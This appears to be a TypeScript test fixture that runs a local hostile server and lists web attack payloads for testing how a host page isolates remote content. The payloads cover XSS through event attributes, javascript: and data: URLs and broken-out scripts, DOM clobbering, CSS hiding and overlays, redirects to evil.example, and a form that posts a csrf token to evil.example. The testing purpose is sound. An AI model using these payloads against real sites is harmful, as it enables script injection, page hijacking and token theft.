import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo, Socket } from "node:net";

/** What a remote may say (REM-01); only what a test cares about. */
export interface HostileReply {
  readonly body: string;
  readonly style?: string;
  readonly cssToLoad?: readonly string[];
  readonly codeToEval?: string;
  readonly title?: string;
  readonly head?: string;
}

type Answer = (request: IncomingMessage, response: ServerResponse) => void;

/** A remote on the allow-list that means harm, on a port of its own. */
export interface Hostile {
  readonly origin: string;
  /** Paths asked for. */
  readonly asked: string[];
  /** Connections that are still open. */
  readonly open: ReadonlySet<Socket>;
  /** Answers pages from now on, as a reply or by hand. */
  say(answer: HostileReply | Answer): void;
  close(): Promise<void>;
}

export async function openHostile(): Promise<Hostile> {
  const asked: string[] = [];
  const open = new Set<Socket>();
  let answer: Answer = (_request, response) => response.end();
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    if (request.url === "/enemy.css") response.setHeader("content-type", "text/css").end(enemyCss);
    else answer(request, response);
  });
  server.on("connection", (socket) => {
    open.add(socket);
    socket.once("close", () => open.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    open,
    say(next) {
      answer =
        typeof next === "function"
          ? next
          : (_request, response) => {
              response.setHeader("content-type", "application/json");
              response.end(JSON.stringify({ appName: "information", ...next }));
            };
    },
    async close() {
      const closed = new Promise<void>((resolve) => server.close(() => resolve()));
      server.closeAllConnections();
      await closed;
    },
  };
}

/** What a page of the remote says when it behaves; attacks say it as well, so that it can be seen to have come. */
export const sign = "The remote was here";
const said = `<p>${sign}</p>`;
/** Marks the page wherever code of a body gets to run. */
const mark = "document.documentElement.setAttribute('data-taken','')";
const enemyCss =
  "@import url(//evil.example/x.css);*{display:none!important}body{visibility:hidden}header{opacity:0}" +
  ":root{--ink:transparent;--surface:red}@font-face{font-family:Arial;src:url(/blank.woff2)}";

export const harmless: HostileReply = { body: said };

/** Pages that try to break the shell around them, by what they try. */
export const attacks: Readonly<Record<string, HostileReply>> = {
  "ends the page early": { body: `${said}</div></div></main></body></html></div></div><div>` },
  "leaves tables open": { body: `${said}<table><tr><td><table><caption><tr><td>x` },
  "turns the rest to text": { body: `${said}<plaintext>` },
  "opens a comment": { body: `${said}<!--` },
  "opens a textarea": { body: `${said}<textarea>` },
  "opens a title, a style, a script": {
    body: `${said}<title><style><script><noscript><template><svg><desc>`,
  },
  "opens a select": { body: `${said}<select><option>` },
  "nests forms": {
    body: `${said}<form action="/en"><form method="post" action="/en/coupon"></form></form><input form="x">`,
  },
  "hides everything": {
    body: `${said}<style>*{display:none!important}</style>`,
    style: "*{display:none!important}",
  },
  "styles the page": {
    body: said,
    style:
      "body{visibility:hidden}html{font-size:99px}:root{--ink:transparent!important;--surface:red!important}header,footer{opacity:0}",
  },
  "styles from a sheet": { body: said, cssToLoad: ["/enemy.css", "//evil.example/x.css"] },
  "ends the style": { body: said, style: `.a{content:"</style><script>${mark}</script>"}` },
  "covers the page": {
    body: `${said}<div style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red">x</div>`,
    style: ".o{position:fixed;inset:0;z-index:2147483647}",
  },
  "covers the page from the top layer": {
    body: `${said}<button popovertarget="pop" id="opener">Open</button><div popover id="pop" style="inset:0;width:100vw;height:100vh">x</div>`,
  },
  "takes the shell's ids": {
    body: `${said}<div id="coupon"></div><main id="main"></main><div id="content"></div><div id="header"></div>`,
  },
  "clobbers what scripts read": {
    body: `${said}<form id="place" method="post" action="/en/coupon"><input name="attributes"><input name="parentNode"><input name="getAttribute"><img name="cookie"><button id="pressed">Press</button></form><form name="getElementById"></form><img name="currentScript"><a id="__remixContext"></a>`,
  },
  "asks for the token": {
    body: `${said}<form method="post" action="https://evil.example/"><input name="csrf"><button>x</button></form><form method="post" action="//evil.example"></form><form action="https://evil.example/"></form>`,
  },
  "runs from attributes": {
    body: `${said}<img src="/missing.png" onerror="${mark}"><svg onload="${mark}"></svg><details open ontoggle="${mark}"></details><input autofocus onfocus="${mark}"><body onload="${mark}">`,
  },
  "runs from addresses": {
    body: `${said}<a href="javascript:${mark}" id="pressed">x</a><a href="data:text/html,<script>1</script>">x</a><form><button formaction="javascript:${mark}">x</button></form><iframe src="javascript:parent.${mark}"></iframe><object data="javascript:1"></object><embed src="data:text/html,x">`,
  },
  "runs from scripts": {
    body: `${said}<script>${mark}</script><svg><script>${mark}</script></svg>`,
  },
  "ends scripts in its texts": {
    body: said,
    title: `</title></script><script>${mark}</script>`,
    codeToEval: `"</script><script>${mark}</script><!--<script>"`,
    head: `<meta name="description" content="</script><script>${mark}</script>"><script>${mark}</script>`,
  },
  "throws in its code": { body: said, codeToEval: "throw new Error('from the remote')" },
  "breaks its code's grammar": { body: said, codeToEval: "}{" },
  "writes what no encoding carries": {
    body: `${said}\u0000\ud800<p title="\u0000\udfff">x</p>`,
    title: "a\u0000b\ud800c\r\nd",
    codeToEval: "\u2028\u0000",
  },
  "moves the page": {
    body: `${said}<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><a href="/en/about" target="_top">x</a>`,
    head: '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><link rel="stylesheet" href="//evil.example/x.css">',
  },
};
